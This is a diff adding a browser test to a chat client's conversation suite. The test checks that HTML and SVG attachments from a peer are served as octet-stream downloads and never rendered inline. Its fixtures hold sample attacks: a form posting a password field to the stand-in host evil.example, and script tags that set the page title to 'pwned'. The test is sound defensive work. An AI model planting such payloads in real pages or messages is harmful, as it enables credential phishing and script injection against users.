@@ -606,6 +606,35 @@ describe('conversation', () => {
     await page.close();
   });
 
+  test("a peer's html or svg file is offered as a download (application/octet-stream), never rendered", async () => {
+    const seed = sampleSeed();
+    const bob = seed.messages[TOPICS.bob]!;
+    const last = bob.at(-1)!;
+    const file = (id: string, filename: string, mimeType: string, body: string) => ({
+      ...last,
+      id,
+      sent: last.sent + bob.length,
+      contentType: 'xmtp.org/attachment:1.0',
+      content: { filename, mimeType, data: Buffer.from(body).toString('base64') },
+    });
+    bob.push(
+      file('html-file', 'invite.html', 'text/html', '<form action="https://evil.example/"><input name=pw></form><script>document.title="pwned"</script>'),
+      file('svg-file', 'logo.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><script>document.title="pwned"</script></svg>'),
+    );
+    const page = await h.open(seed, { hash: '#/c/' + encodeURIComponent(TOPICS.bob) });
+    for (const name of ['invite.html', 'logo.svg']) {
+      const link = page.getByRole('link', { name: `Download ${name}` });
+      await link.waitFor();
+      assert.equal(await link.getAttribute('download'), name);
+      const type = await page.evaluate(async (href) => (await (await fetch(href)).blob()).type, (await link.getAttribute('href'))!);
+      assert.equal(type, 'application/octet-stream', name);
+      assert.equal(await page.getByRole('img', { name }).count(), 0, `${name} is not shown inline`);
+    }
+    assert.equal(await page.locator('iframe, object, embed').count(), 0);
+    assert.notEqual(await page.title(), 'pwned');
+    await page.close();
+  });
+
   test('shows unknown content with its fallback, replies, reactions, files and Read', async () => {
     const page = await h.open(sampleSeed(), { hash: '#/c/' + encodeURIComponent(TOPICS.alice), fixedClock: true });
     await page.getByText('Poll: pizza or tacos after the meetup?').waitFor();
